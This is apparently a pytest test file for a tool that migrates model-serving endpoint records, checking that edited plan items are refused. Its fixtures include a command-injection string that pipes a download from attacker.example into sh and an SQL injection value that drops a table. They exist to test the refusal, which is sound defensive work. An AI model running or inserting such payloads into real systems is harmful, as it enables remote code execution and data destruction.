"""A plan is a selection, not a script: apply writes only what the plan's policy re-derives."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from migrate.core import outcomes as oc
from migrate.core.classify import classify
from migrate.core.overrides import parse_overrides
from migrate.core.plan import ItemPolicy, PlanItem, build_plan
from migrate.core.policy import PolicyParams
from migrate.core.records import BundleRecord, EndpointRecord
from migrate.core.verdict import evaluate
from tests.support.plans import IDENTITY

SCRIPT = (
    "s5cmd cp s3://m/* model_files;python -m vllm_server --model model_files "
    "--served-model-name m model_files --port 5005 --max-model-len 8192 --enforce-eager "
    "--tensor-parallel-size 1 --gpu-memory-utilization 0.9"
)
CURL = "; curl -s http://attacker.example/x | sh"
EVIL_ARGS = {"evil": "'; DROP TABLE x; --", "enforce_eager": False, "max_model_len": 999999}


def record(
    *, args: dict[str, Any] | None = None, name: str = "llama-8b-chat", streaming: bool = True
) -> EndpointRecord:
    llm: dict[str, Any] = {"model_name": "llama-3-8b-instruct", "inference_framework": "vllm"}
    if args is not None:
        llm["vllm_additional_args"] = args
    command = ["/bin/bash", "-c", SCRIPT]
    bundle = BundleRecord(
        id="bun_1",
        flavor="streaming_enhanced_runnable_image",
        command=command,
        streaming_command=list(command) if streaming else None,
        worker_command=None,
        bundle_metadata={},
    )
    return EndpointRecord(
        id="end_1",
        name=name,
        owner="team",
        status="READY",
        endpoint_type="streaming",
        metadata={"_llm": llm},
        current_bundle_id="bun_1",
        bundle=bundle,
        created_at=datetime(2024, 10, 20, tzinfo=UTC),
    )


def planned(
    rec: EndpointRecord, params: PolicyParams | None = None, overrides: str | None = None
) -> PlanItem:
    params = params or PolicyParams()
    rules = parse_overrides(overrides, "o.toml") if overrides else None
    plan = build_plan(
        [classify(rec, params, rules)],
        created_at="2026-07-01T00:00:00+00:00",
        created_by="alice",
        tool_version="test",
        database=IDENTITY,
        schema="hosted_model_inference",
        policy=params.as_dict(),
        filters={},
        overrides="o.toml" if overrides else None,
        stage_spec="1",
    )
    (item,) = plan.items
    return item


# A legacy recreation's dict: every tunable flag copied, enforce_eager true. `--recorded
# drop` drops the flag and must remove enforce_eager from the dict, or model engine's
# next recreation puts eager straight back.
RECORDED = {"max_model_len": 8192, "gpu_memory_utilization": 0.9, "enforce_eager": True}


def test_an_unedited_item_goes_ahead_with_the_values_derived_from_the_row() -> None:
    rec = record(args=RECORDED)
    item = planned(rec, PolicyParams(recorded="drop"))
    verdict = evaluate(item, rec, None)
    assert verdict.outcome is None, verdict.detail
    assert verdict.command_after == ["/bin/bash", "-c", SCRIPT.replace(" --enforce-eager", "")]
    assert verdict.streaming_after == verdict.command_after
    assert verdict.args_after == {"max_model_len": 8192, "gpu_memory_utilization": 0.9}


@pytest.mark.parametrize(
    ("edit", "expected"),
    [
        ({"args_after": EVIL_ARGS}, "its _llm.vllm_additional_args differs"),
        ({"args_after": None}, "its _llm.vllm_additional_args differs"),
        ({"command_after": "{command}" + CURL}, "its new command differs"),
        ({"streaming_command_after": "{command}" + CURL}, "its new streaming command differs"),
        ({"streaming_command_after": None}, "its new streaming command differs"),
        ({"action": "add-eager", "command_after": SCRIPT}, "the action is drop-eager"),
        ({"policy": ItemPolicy(PolicyParams(threshold=Decimal("0.5")))}, "the action is"),
        ({"policy": ItemPolicy(PolicyParams(recorded="keep"))}, "the action is keep-eager"),
        ({"policy": None}, "carries no policy"),
    ],
)
def test_an_item_that_differs_from_its_rederivation_is_refused(
    edit: dict[str, Any], expected: str
) -> None:
    rec = record(args=RECORDED)
    item = planned(rec, PolicyParams(recorded="drop"))
    edit = {
        k: v.format(command=item.command_after) if isinstance(v, str) else v
        for k, v in edit.items()
    }
    verdict = evaluate(replace(item, **edit), rec, None)
    assert verdict.outcome == oc.FAILED
    assert verdict.detail.startswith("refused: ") and expected in verdict.detail
    assert verdict.command_after is None and verdict.args_after is None


def test_the_detail_names_the_policy_and_what_to_do() -> None:
    rec = record(args=RECORDED)
    item = planned(rec, PolicyParams(recorded="drop"))
    detail = evaluate(replace(item, args_after=EVIL_ARGS), rec, None).detail
    assert detail == (
        "refused: the plan does not match what its policy derives from the endpoint now "
        "(threshold 0.95, recorded drop): its _llm.vllm_additional_args differs. Make a new plan."
    )


def test_an_override_the_plan_recorded_is_rederived_and_one_it_did_not_is_refused() -> None:
    # A caller asked for eager (a partial dict): kept, unless an [auto] override says otherwise.
    # The name holds glob characters: the re-derived rule must match it literally.
    rec = record(args={"enforce_eager": True}, name="team-[a]*-chat")
    item = planned(rec, overrides='[auto]\nendpoints = ["team-*"]\n')
    assert item.action == "drop-eager" and "override-auto" in item.flags
    assert evaluate(item, rec, None).outcome is None
    no_file = replace(item, policy=ItemPolicy(PolicyParams(), None))
    assert "the action is keep-eager" in evaluate(no_file, rec, None).detail
    other = replace(rec, name="team-b-chat")  # the name matters only through the override
    assert evaluate(item, other, None).outcome is None


@settings(max_examples=150, deadline=None)
@given(
    args=st.dictionaries(
        st.text(min_size=1, max_size=12),
        st.one_of(st.integers(), st.booleans(), st.text(max_size=8), st.none()),
        max_size=4,
    ),
    suffix=st.text(min_size=1, max_size=40),
)
def test_no_edit_of_args_or_command_is_ever_written(args: dict[str, Any], suffix: str) -> None:
    rec = record(args=RECORDED)
    item = planned(rec, PolicyParams(recorded="drop"))
    derived = evaluate(item, rec, None).args_after
    for edited in (
        replace(item, args_after=args),
        replace(item, command_after=item.command_after + suffix),
    ):
        verdict = evaluate(edited, rec, None)
        if edited.args_after == derived and edited.command_after == item.command_after:
            assert verdict.outcome is None
        else:
            assert verdict.outcome == oc.FAILED and verdict.command_after is None


def test_a_threshold_written_as_a_number_reads_the_same() -> None:
    from migrate.core.plan import read_policy

    assert read_policy({"threshold": 0.95, "recorded": "keep"}) == read_policy(
        {"threshold": "0.95", "recorded": "keep"}
    )
    assert read_policy({"threshold": 1, "recorded": "drop"}).params.threshold == Decimal(1)
